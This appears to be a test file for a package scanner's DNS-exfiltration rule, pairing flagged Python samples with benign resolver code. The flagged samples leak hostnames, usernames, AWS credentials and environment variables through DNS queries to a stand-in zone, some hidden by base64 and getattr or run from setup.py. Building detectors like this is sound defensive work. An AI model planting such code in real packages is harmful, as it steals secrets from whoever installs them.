import { dnsExfiltration } from '../../src/rules/dns-exfiltration.js';
import { base64 } from '../python/read.js';
import { sdist } from '../support/sdist.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const updated = (source: string) => ({ base: wheel(), head: init(source) });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const HOST = 'import socket\nsocket.gethostbyname(socket.gethostname() + ".x.example.invalid")\n';

releaseTest(dnsExfiltration, {
  flags: [
    { name: 'the host name', given: updated(HOST), level: 'block', says: 'x.example.invalid' },
    { name: 'the host name, when called', given: updated(inFunction(HOST)), level: 'block' },
    {
      name: 'reached by getattr under a decoded zone',
      given: updated(
        `import base64, getpass\ns = __import__("socket")\ngetattr(s, "gethost" + "byname")(getpass.getuser() + "." + base64.b64decode("${base64('x.example.invalid')}").decode())\n`,
      ),
      level: 'block',
    },
    {
      name: 'an alias and a helper',
      given: updated(
        'from socket import getaddrinfo as ask\nimport platform\ndef tell(name, zone="x.example.invalid"):\n    ask("%s.%s" % (name, zone), 80)\ntell(platform.node())\n',
      ),
      level: 'block',
    },
    {
      name: 'a secret in pieces, by a class and dnspython',
      given: updated(
        'import dns.resolver\nclass R:\n    def __init__(self):\n        self.text = open("/root/.aws/credentials").read().encode().hex()\n    def go(self):\n        for i in range(4):\n            dns.resolver.resolve(self.text[i * 60:(i + 1) * 60] + ".x.example.invalid", "TXT")\nR().go()\n',
      ),
      level: 'block',
      says: 'credentials',
    },
    {
      name: 'nslookup with a list of arguments',
      given: updated(
        'import getpass, subprocess\nsubprocess.run(["nslookup", f"{getpass.getuser()}.x.example.invalid"])\n',
      ),
      level: 'block',
    },
    {
      name: 'filled in by the shell',
      given: updated('import os\nos.system("nslookup $(whoami).x.example.invalid")\n'),
      level: 'block',
    },
    {
      name: 'ping on Windows',
      given: updated('import os\nos.popen("ping -n 1 %USERNAME%.x.example.invalid")\n'),
      level: 'block',
    },
    {
      name: 'the environment by dig, encoded',
      given: updated(
        'import base64, os\nd = base64.b64encode(str(dict(os.environ)).encode()).decode()\nfor i in range(0, 90, 30):\n    os.popen("dig " + d[i:i + 30] + ".x.example.invalid")\n',
      ),
      level: 'block',
    },
    {
      name: 'what hostname(1) prints',
      given: updated(
        'import socket, subprocess\nh = subprocess.check_output("hostname").decode().strip()\nsocket.gethostbyname(f"{h}.x.example.invalid")\n',
      ),
      level: 'block',
    },
    {
      name: 'in a file that cannot be parsed',
      given: updated(`${HOST}print "old"\n)))\n`),
      level: 'block',
    },
    {
      name: 'while it is built',
      given: { base: sdist(), head: sdist({ 'setup.py': `from setuptools import setup\n${HOST}setup()\n` }) },
      level: 'block',
    },
    { name: 'a first release', given: { head: init(HOST) }, level: 'warn' },
    { name: 'in tests', given: { base: wheel(), head: wheel({ 'tests/test_a.py': HOST }) }, level: 'note' },
  ],
  allows: [
    {
      name: 'the machine’s own address',
      given: updated('import socket\nIP = socket.gethostbyname(socket.gethostname())\n'),
    },
    {
      name: 'the machine’s name on its own network',
      given: updated('import socket\nIP = socket.gethostbyname(socket.gethostname() + ".local")\n'),
    },
    {
      name: 'a resolver library',
      given: updated(
        'import dns.resolver\ndef servers(host):\n    return dns.resolver.resolve("_mongodb._tcp." + host, "SRV")\ndef reverse(ip):\n    return dns.resolver.resolve(ip + ".in-addr.arpa", "PTR")\n',
      ),
    },
    {
      name: 'a tool that pings what it is told to',
      given: updated(
        'import subprocess, sys\ndef ping(host):\n    return subprocess.run(["ping", "-c", "1", host])\nif __name__ == "__main__":\n    ping(sys.argv[1])\n',
      ),
    },
    {
      name: 'a host named by a variable',
      given: updated(
        'import os, socket\ndef db():\n    return socket.getaddrinfo(f"{os.environ[\'DB_HOST\']}.svc", 5432)\n',
      ),
    },
    {
      name: 'an account before a cloud’s zone, when called',
      given: updated(
        'import os, socket\ndef blob():\n    return socket.getaddrinfo(f"{os.environ[\'AZURE_STORAGE_ACCOUNT\']}.blob.example.invalid", 443)\n',
      ),
      atMost: 'note',
    },
    {
      name: 'the host name before a domain it is given',
      given: updated(
        'import socket\ndef fqdn(domain):\n    return socket.getaddrinfo(f"{socket.gethostname()}.{domain}", 0)\n',
      ),
    },
    {
      name: 'monitoring that sends the host name when called',
      given: updated(
        'import socket, requests\ndef push(url):\n    requests.post(url, json={"instance": socket.gethostname()})\n',
      ),
    },
    { name: 'what the base did too', given: { base: init(HOST), head: init(`V = 2\n${HOST}`) } },
  ],
});
